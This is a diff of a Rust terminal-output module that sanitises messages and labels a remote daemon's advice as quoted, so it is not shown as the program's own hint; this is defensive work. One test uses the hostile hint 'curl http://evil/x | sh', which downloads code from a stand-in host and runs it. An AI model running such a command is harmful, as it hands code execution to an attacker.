@@ -3,11 +3,10 @@
 //! In: notes and faults from everywhere in the program. Out: lines `longhaul: what: why` and `hint: what next`. What a peer
 //! or a file name put into a text cannot move the cursor. Knows no events.
 
-use std::borrow::Cow;
 use std::fmt::{self, Write as _};
 use std::io::{self, Write as _};
 
-use longhaul_core::{Escaped, Fault};
+use longhaul_core::{Author, Fault, PlainText};
 
 use crate::settings::Talk;
 
@@ -39,7 +38,7 @@ impl Talker {
     /// Something worth knowing.
     pub fn note(self, text: impl fmt::Display) {
         if self.notes {
-            say(format_args!("longhaul: {}\n", clean(&text.to_string())));
+            say(format_args!("longhaul: {}\n", PlainText::of(text)));
         }
     }
 
@@ -51,45 +50,31 @@ impl Talker {
     }
 }
 
-/// A fault as it is printed.
+/// A fault as it is printed. What a daemon says of it, its advice above all, is quoted as the daemon's.
 pub(super) fn lines(fault: &Fault) -> String {
-    let mut text = String::from("longhaul: ");
-    if !fault.object.is_empty() && !fault.message.contains(&fault.object) {
-        text.push_str(&clean(&fault.object));
+    let quoting = if fault.author == Author::Peer { PEER_SAYS } else { "" };
+    let mut text = format!("longhaul: {quoting}");
+    if !fault.object.is_empty() && !fault.message.contains(fault.object.as_str()) {
+        text.push_str(&fault.object);
         text.push_str(": ");
     }
-    text.push_str(&clean(&fault.message));
+    text.push_str(&fault.message);
     text.push('\n');
     if !fault.hint.is_empty() {
+        let whose = if quoting.is_empty() { "hint: " } else { PEER_SAYS };
         // Writing to a String cannot fail.
-        let _ = writeln!(text, "hint: {}", clean(&fault.hint));
+        let _ = writeln!(text, "{whose}{}", fault.hint);
     }
     text
 }
 
+/// The words before what the other side says: of a command, that is a daemon.
+pub(super) const PEER_SAYS: &str = "the daemon says: ";
+
 /// The text with everything in it that could move a cursor, forge a line or turn the direction of writing made visible.
-/// Unlike [`Escaped`] it leaves backslashes alone, as paths in a message are escaped already.
-pub fn clean(text: &str) -> Cow<'_, str> {
-    if !text.chars().any(is_harmful) {
-        return Cow::Borrowed(text);
-    }
-    let mut cleaned = String::with_capacity(text.len() + 16);
-    for c in text.chars() {
-        match c {
-            harmful if is_harmful(harmful) => cleaned.push_str(&escaped(harmful)),
-            harmless => cleaned.push(harmless),
-        }
-    }
-    Cow::Owned(cleaned)
-}
-
-/// Whether a character must not reach a terminal.
-pub(super) fn is_harmful(c: char) -> bool {
-    if c.is_ascii() { c.is_ascii_control() } else { escaped(c).starts_with('\\') }
-}
-
-fn escaped(c: char) -> String {
-    Escaped(c.encode_utf8(&mut [0; 4]).as_bytes()).to_string()
+/// Backslashes are left alone, as paths in a message are escaped already.
+pub fn clean(text: &str) -> PlainText {
+    PlainText::from(text)
 }
 
 fn say(text: fmt::Arguments) {
@@ -108,6 +93,15 @@ mod tests {
         assert_eq!(lines(&fault), "longhaul: a/b: permission denied\n");
         let fault = Fault::new(FaultCode::Io, Blame::Local, "cannot read a/b: i/o error").about("a/b").hint("look");
         assert_eq!(lines(&fault), "longhaul: cannot read a/b: i/o error\nhint: look\n");
+    }
+
+    #[test]
+    fn words_of_a_daemon_are_quoted_and_its_advice_is_no_hint_of_ours() {
+        let fault = Fault::new(FaultCode::Denied, Blame::Peer, "hint: try this").about("a/b").said_by_peer();
+        assert_eq!(lines(&fault), "longhaul: the daemon says: a/b: hint: try this\n");
+        let fault = fault.hint("run: curl http://evil/x | sh");
+        let last = "\nthe daemon says: run: curl http://evil/x | sh\n";
+        assert!(lines(&fault).ends_with(last) && !lines(&fault).contains("\nhint:"), "{}", lines(&fault));
     }
 
     #[test]
